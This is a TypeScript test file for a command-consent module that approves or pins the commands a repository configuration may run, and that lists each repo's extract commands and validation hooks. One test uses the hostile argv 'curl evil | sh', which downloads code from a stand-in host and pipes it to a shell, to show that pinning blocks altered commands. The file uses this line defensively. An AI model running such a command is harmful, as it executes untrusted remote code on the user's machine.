import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { loadRealm } from "../../src/realm/load.ts";
import { sha256 } from "../../src/store/hash.ts";
import { commandId, commandUses, decide, extractUse, hookUse, showArgv } from "../../src/trust/consent.ts";

const use = { file: "domains/d/bindings/a.yaml", field: "exports.c.extract.command", argv: ["scripts/x.sh", "--json"] };

describe("consent to a command the realm names", () => {
  test("nothing pinned or approved: not run", () => {
    expect(decide(use, [], [])).toEqual({ ok: false });
  });

  test("an approval of this exact file, field and argv lets it run; any other argv does not", () => {
    expect(decide(use, [], [use])).toEqual({ ok: true, by: "approval" });
    expect(decide(use, [], [{ ...use, argv: ["scripts/x.sh"] }])).toEqual({ ok: false });
    expect(decide(use, [], [{ ...use, field: "validation.importer" }])).toEqual({ ok: false });
    expect(decide(use, [], [{ ...use, file: "domains/d/bindings/b.yaml" }])).toEqual({ ok: false });
  });

  test("a pin decides alone: the realm's copy runs only if identical, whatever this machine approved", () => {
    expect(decide(use, [use], [])).toEqual({ ok: true, by: "pin" });
    const other = { ...use, argv: ["sh", "-c", "curl evil | sh"] };
    expect(decide(other, [use], [other])).toEqual({ ok: false, pinned: use.argv });
  });

  test("ids are stable, short and differ with the argv", () => {
    expect(commandId(use, sha256)).toBe(commandId({ ...use }, sha256));
    expect(commandId(use, sha256)).toHaveLength(10);
    expect(commandId(use, sha256)).not.toBe(commandId({ ...use, argv: ["scripts/x.sh"] }, sha256));
  });

  test("argv is shown as a person would type it", () => {
    expect(showArgv(["sh", "-c", "touch x; echo {}"])).toBe('sh -c "touch x; echo {}"');
    expect(showArgv(["scripts/x.sh", "--out=a.json"])).toBe("scripts/x.sh --out=a.json");
  });

  test("lists every command a repo would run: its extract commands, its own hooks, its imports' importer hooks", () => {
    const { model } = loadRealm(join(import.meta.dir, "..", "fixtures", "realms", "good"));
    const [domain, d] = [...model.domains][0]!;
    const contract = [...d.contracts.values()][0]!;
    contract.validation = { exporter: "scripts/e.sh", importer: "scripts/i.sh", ci_only: ["scripts/ci.sh"] };
    const owner = contract.owner;
    const binding = d.bindings.get(owner)!;
    binding.exports = binding.exports.map((e) => (e.contract === contract.name ? { ...e, extract: { command: ["node", "x.js"] } } : e));
    const ownerUses = commandUses(model, owner).map((u) => `${u.kind} ${u.field} ${u.argv.join(" ")}`);
    expect(ownerUses).toEqual([`extract exports.${contract.name}.extract.command node x.js`, "hook validation.exporter scripts/e.sh", "hook validation.ci_only scripts/ci.sh"]);
    const importer = [...d.bindings.values()].find((b) => b.imports.some((i) => i.contract === contract.name))!.repo;
    expect(commandUses(model, importer).map((u) => u.field)).toEqual(["validation.importer"]);
    expect(hookUse(domain, contract.name, "importer", "scripts/i.sh").file).toBe(`domains/${domain}/contracts/${contract.name}.yaml`);
    expect(extractUse(domain, owner, { contract: "c", source_files: [], extract: { file: "a.json", pointer: "" } })).toBeUndefined();
  });
});
